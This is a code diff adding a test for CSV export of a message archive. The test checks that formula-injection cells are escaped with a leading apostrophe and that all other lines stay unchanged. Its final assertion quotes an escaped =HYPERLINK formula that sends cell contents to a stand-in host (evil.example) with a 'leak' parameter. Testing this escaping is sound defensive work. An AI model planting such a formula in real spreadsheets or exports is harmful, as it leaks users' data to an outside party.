@@ -368,6 +368,36 @@ describe('npm run export on a local archive', () => {
     expect(typeof records[0].group_id).toBe('string');
   });
 
+  it('neutralises formula cells in CSV and leaves every other line byte for byte as --raw-csv writes it', async () => {
+    const sql =
+      'SELECT group_id, topic_id, msg_seq, sender, text, msg_seq - 1000 AS negative FROM messages_flat ' +
+      'ORDER BY group_id, topic_id NULLS FIRST, msg_seq';
+    const safe = join(dir, 'safe.csv');
+    const raw = join(dir, 'raw.csv');
+    await runExportCommand([sql, '--out', safe, '--archive', dir], io().deps);
+    await runExportCommand([sql, '--out', raw, '--archive', dir, '--raw-csv'], io().deps);
+    const safeLines = (await readFile(safe, 'utf8')).split('\r\n');
+    const rawLines = (await readFile(raw, 'utf8')).split('\r\n');
+    expect(safeLines).toHaveLength(rawLines.length);
+    const [formulaRows] = await collectRows(
+      await db.run("SELECT count(*) FROM messages_flat WHERE regexp_matches(text, '^[=+@\\t\\r-]')"),
+    );
+    const differing = safeLines.flatMap((line, i) => (line === rawLines[i] ? [] : [[rawLines[i], line]]));
+    // The simulator's hostile texts are in the archive; exactly their lines change.
+    expect(Number(formulaRows?.[0])).toBeGreaterThan(0);
+    expect(differing).toHaveLength(Number(formulaRows?.[0]));
+    for (const [before, after] of differing) {
+      expect(after).toMatch(/,"'[=+@\t\r-]/);
+      // Only the quote and the leading apostrophe were added.
+      const bare = (line = '') => line.replace(/,"'([=+@\t\r-])/, ',$1').replaceAll('"', '');
+      expect(bare(after)).toBe(bare(before));
+      expect(before).not.toMatch(/,"'[=+@\t\r-]/);
+    }
+    // Negative numbers stay numbers: the last column is msg_seq - 1000, negative for most rows.
+    expect(safeLines.filter((l) => /,-\d+$/.test(l)).length).toBeGreaterThan(10);
+    expect(safeLines.join('\n')).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""click me"")"`);
+  });
+
   it('fails on bad SQL and leaves no partial file', async () => {
     const out = join(dir, 'bad.csv');
     await expect(
